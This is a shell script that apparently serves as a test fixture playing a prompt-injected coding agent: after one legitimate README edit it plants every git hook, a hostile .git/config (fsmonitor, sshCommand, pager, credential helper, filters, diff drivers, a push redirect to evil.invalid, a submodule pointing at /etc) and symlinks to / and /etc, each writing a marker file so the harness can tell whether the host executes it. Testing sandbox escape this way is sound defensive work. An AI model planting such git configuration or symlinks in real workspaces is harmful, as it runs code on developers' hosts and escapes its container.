#!/bin/sh
# A prompt-injected agent.  It makes one legitimate edit, then plants everything that would run
# code on a host that afterwards ran git in this workspace, collected its artifacts or cleaned it
# up.  Every planted command writes a marker file under $MARK, a host directory named on the
# prompt ("MARK=/host/dir VICTIM=/host/dir"): it does not exist in the container,
# so a marker can only appear if the host itself ran the command.  WS is /workspace unless the
# control test runs this on the host to prove each plant is live.
set -e
WS=${WS:-/workspace}
MARK=$(sed -n 's/.*MARK=\([^ ]*\).*/\1/p' "$OZ_PROMPT_FILE" | head -n 1)
VICTIM=$(sed -n 's/.*VICTIM=\([^ ]*\).*/\1/p' "$OZ_PROMPT_FILE" | head -n 1)

# --- the legitimate edit: the PR must carry exactly these bytes ---------------------------
printf '# api\r\nThe typo is fixed.\n\tAnd a tab.\n' > README.md
printf 'notes \001\002 end\n' > notes.txt
printf 'processed by nobody\n' > data.proc

# --- hooks, in .git/hooks and in a core.hooksPath directory --------------------------------
marker_script() {  # marker_script NAME PATH
  printf '#!/bin/sh\ntouch "%s/%s"\n' "$MARK" "$1" > "$2"
  chmod +x "$2"
}
mkdir -p .git/hooks .git/evil-hooks
for name in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg \
    commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive \
    post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite \
    sendemail-validate fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist \
    p4-pre-submit post-index-change; do
  marker_script "hook-$name" ".git/hooks/$name"
  marker_script "hookspath-$name" ".git/evil-hooks/$name"
done
marker_script gpg-program .git/evil-gpg

# --- repository config: fsmonitor (through an include), filters, external diff, ssh, packs --
# (a trailing '#' swallows the arguments git appends to a shell command)
cat > .git/evil.config <<EOF
[core]
	fsmonitor = touch $MARK/fsmonitor-via-include; false #
EOF
cat >> .git/config <<EOF
[include]
	path = evil.config
[core]
	hooksPath = .git/evil-hooks
	sshCommand = touch $MARK/ssh-command; false #
	pager = touch $MARK/pager; cat #
	editor = touch $MARK/editor #
	askPass = touch $MARK/askpass #
[commit]
	gpgSign = true
[gpg]
	program = .git/evil-gpg
[alias]
	st = !touch $MARK/alias
	ci = !touch $MARK/alias
[diff "evil"]
	textconv = touch $MARK/diff-textconv; cat #
[diff]
	external = touch $MARK/diff-external; true #
[filter "evil"]
	clean = touch $MARK/filter-clean; cat >/dev/null #
	smudge = touch $MARK/filter-smudge; cat >/dev/null #
[filter "evilproc"]
	process = touch $MARK/filter-process; false #
[credential]
	helper = !touch $MARK/credential-helper #
[remote "origin"]
	uploadpack = touch $MARK/uploadpack; git-upload-pack
	receivepack = touch $MARK/receivepack; git-receive-pack
[url "ssh://evil.invalid/"]
	pushInsteadOf = file://
	pushInsteadOf = https://
[submodule "evil"]
	url = /etc
	update = !touch $MARK/submodule-update #
[push]
	recurseSubmodules = on-demand
EOF
mkdir -p .git/info
printf '*.md filter=evil diff=evil\n*.proc filter=evilproc\n' >> .git/info/attributes

# --- the gateway's own directory and the workspace around the repo ------------------------
mkdir -p "$WS/.oz"
ln -sfn /etc "$WS/.oz/artifacts"
ln -sfn / "$WS/.oz/root"
ln -sfn / "$WS/rootlink"
ln -sfn "$VICTIM" "$WS/victim"

echo "Planted; README.md fixed."
